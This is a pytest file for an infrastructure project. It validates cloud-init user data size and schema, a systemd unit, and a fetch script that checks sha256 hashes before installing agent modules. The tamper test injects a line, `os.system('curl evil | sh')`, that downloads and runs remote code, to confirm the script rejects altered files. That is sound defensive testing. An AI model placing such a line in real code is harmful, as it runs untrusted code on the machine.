"""The user data the real stacks send to their host, checked with the real programs.

tests/host/ proves the renderer on its own; this proves what `__main__.py` actually
composes for dev, prod and scale (its web and jobs hosts, nginx behind the load balancer): the
document passes `cloud-init schema` and fits EC2's 16 KB, and the script that fetches files too
large for user data installs a file only when its sha256 matches.
"""

from __future__ import annotations

import hashlib
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from leanstack.mocks import REPO, StackRun
from support.system import require_program
from tests.components.helpers import cloud_config, gzipped_user_data, written_file

HOSTS = ["dev", "prod", "scale-web", "scale-jobs"]


@pytest.fixture()
def runs(dev: StackRun, prod: StackRun, scale: StackRun) -> dict[str, StackRun]:
    return {"dev": dev, "prod": prod, "scale-web": scale, "scale-jobs": scale}


@pytest.mark.parametrize("host", HOSTS)
def test_stack_user_data_fits_ec2s_16_kb(host: str, runs: dict[str, StackRun]) -> None:
    assert len(gzipped_user_data(runs[host], host)) <= 16384


@pytest.mark.servers
@pytest.mark.parametrize("host", HOSTS)
def test_stack_user_data_passes_cloud_init_schema(host: str, runs: dict[str, StackRun], tmp_path: Path) -> None:
    cloud_init = require_program("cloud-init", "cloud-init")
    document = tmp_path / "user-data.yaml"
    document.write_text(cloud_config(runs[host], host))
    checked = subprocess.run(
        [cloud_init, "schema", "--config-file", str(document)], capture_output=True, text=True, timeout=120
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr
    assert "Valid cloud-config" in checked.stdout


def _fake_aws(tmp_path: Path, served: Path) -> Path:
    """A stand-in `aws` CLI: `aws s3 cp s3://bucket/key dest` copies served/<key> to dest."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "aws"
    fake.write_text(
        "#!/bin/sh\n"
        '[ "$1 $2" = "s3 cp" ] || exit 2\n'
        "for last; do :; done\n"
        'for a; do case "$a" in s3://*) src="$a";; esac; done\n'
        'key="${src#s3://*/}"\n'
        f'cp "{served}/$key" "$last"\n'
    )
    fake.chmod(0o755)
    return bin_dir


AGENT = REPO / "host" / "agent"
INSTALLED_AGENT = "usr/local/lib/leanstack/leanstack_agent"


def _run_fetch(dev: StackRun, tmp_path: Path, tampered: str = "") -> tuple[subprocess.CompletedProcess[str], Path]:
    """The real fetch script against a stand-in bucket holding the agent's modules (one `tampered`)."""
    served = tmp_path / "served" / "agent"
    served.mkdir(parents=True)
    for module in AGENT.glob("*.py"):
        text = module.read_text()
        (served / module.name).write_text(
            text + "\nimport os; os.system('curl evil | sh')\n" if module.name == tampered else text
        )
    target = tmp_path / "root"
    script = written_file(dev, "/usr/local/sbin/leanstack-fetch-host-files")
    # Run the real script, pointed at a scratch root instead of /usr/local.
    script = script.replace(" /usr/local/", f" {target}/usr/local/")
    path = tmp_path / "fetch.sh"
    path.write_text(script)
    env = dict(os.environ, PATH=f"{_fake_aws(tmp_path, tmp_path / 'served')}:{os.environ['PATH']}")
    done = subprocess.run(["sh", str(path)], capture_output=True, text=True, env=env, timeout=60)
    return done, target / INSTALLED_AGENT


def test_fetch_script_installs_the_agent_when_each_sha256_matches(dev: StackRun, tmp_path: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("the fetch script installs files owned by root; run as root")
    done, installed = _run_fetch(dev, tmp_path)
    assert done.returncode == 0, done.stderr
    for module in AGENT.glob("*.py"):
        copy = installed / module.name
        assert hashlib.sha256(copy.read_bytes()).hexdigest() == hashlib.sha256(module.read_bytes()).hexdigest()
        assert stat.S_IMODE(copy.stat().st_mode) == 0o644
    # The entry script from the user data runs the installed package.
    entry = written_file(dev, "/usr/local/bin/leanstack-backup").replace(
        "/usr/local/lib/leanstack", str(installed.parent)
    )
    (tmp_path / "leanstack-backup").write_text(entry)
    shown = subprocess.run(
        [sys.executable, str(tmp_path / "leanstack-backup"), "--help"], capture_output=True, text=True, timeout=60
    )
    assert shown.returncode == 0 and "DRILL_DATABASE_URL" in shown.stdout, shown.stderr


def test_fetch_script_refuses_a_tampered_file(dev: StackRun, tmp_path: Path) -> None:
    done, installed = _run_fetch(dev, tmp_path, tampered="backup.py")
    assert done.returncode != 0
    assert "agent/backup.py does not match its sha256; not installed" in done.stderr
    assert not (installed / "backup.py").exists()


@pytest.mark.servers
def test_fetch_unit_parses_with_systemd(dev: StackRun, tmp_path: Path) -> None:
    analyze = require_program("systemd-analyze", "systemd")
    unit = tmp_path / "leanstack-host-files.service"
    unit.write_text(written_file(dev, "/etc/systemd/system/leanstack-host-files.service"))
    script = tmp_path / "fetch"
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    unit.write_text(unit.read_text().replace("/usr/local/sbin/leanstack-fetch-host-files", str(script)))
    done = subprocess.run([analyze, "verify", str(unit)], capture_output=True, text=True, timeout=60)
    problems = [line for line in done.stderr.splitlines() if unit.name in line]
    assert problems == [], done.stderr
